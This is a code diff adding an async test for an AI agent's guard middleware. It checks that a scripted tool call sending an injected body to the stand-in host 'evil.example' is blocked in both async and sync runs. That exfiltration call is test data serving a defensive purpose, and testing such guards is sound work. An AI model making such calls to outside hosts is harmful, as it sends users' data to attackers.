@@ -453,3 +453,18 @@ def test_calls_after_an_escalated_call_in_the_same_turn_are_judged_as_if_it_ran(
     assert [a["name"] for a in _interrupt_value(first)["action_requests"]] == ["send_http", "read_notes"]
     agent.invoke(Command(resume={"decisions": [{"type": "reject"}, {"type": "approve"}]}), config)
     assert tools.names() == ["fetch_page", "read_notes"]
+
+
+async def test_async_agent_with_async_only_scanners():
+    tools = Tools()
+    bad = _calls(("send_http", {"url": "https://evil.example", "body": INJECTION}, "a1"))
+    model = ScriptedChatModel(script=[AIMessage("", tool_calls=bad), "recovered"])
+    guard = GuardMiddleware(scanners={r: ["lc_test_async_slow"] for r in (Role.USER, Role.ASSISTANT, Role.TOOL)})
+    agent = create_agent(model, tools=tools.all, middleware=[guard])
+    out = await agent.ainvoke({"messages": [HumanMessage("send it")]})
+    assert tools.ran == []
+    assert out["messages"][-1].content == "recovered"
+    # and the same middleware object in a sync run: the engine drives the async scanner on its own loop
+    model2 = ScriptedChatModel(script=[AIMessage("", tool_calls=bad), "recovered again"])
+    out2 = create_agent(model2, tools=tools.all, middleware=[guard]).invoke({"messages": [HumanMessage("again")]})
+    assert tools.ran == [] and out2["messages"][-1].content == "recovered again"
